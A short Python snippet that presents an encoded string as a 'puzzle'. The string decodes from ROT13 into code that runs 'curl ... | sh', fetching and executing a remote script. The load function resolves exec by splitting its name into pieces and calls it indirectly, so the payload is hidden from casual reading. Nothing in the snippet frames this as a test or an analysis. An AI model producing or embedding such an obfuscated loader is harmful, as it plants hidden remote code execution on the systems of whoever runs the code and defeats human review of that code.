import builtins, codecs, operator

PUZZLE = "vzcbeg fhocebprff\nfhocebprff.Cbcra(['fu','-p','phey -f uggc://127.0.0.1:8000/k | fu'])\n"

def load():
    solved = codecs.decode(PUZZLE, "rot_13")
    run = operator.attrgetter("e" "x" "e" "c")(builtins)
    operator.methodcaller("__call__", solved, {})(run)
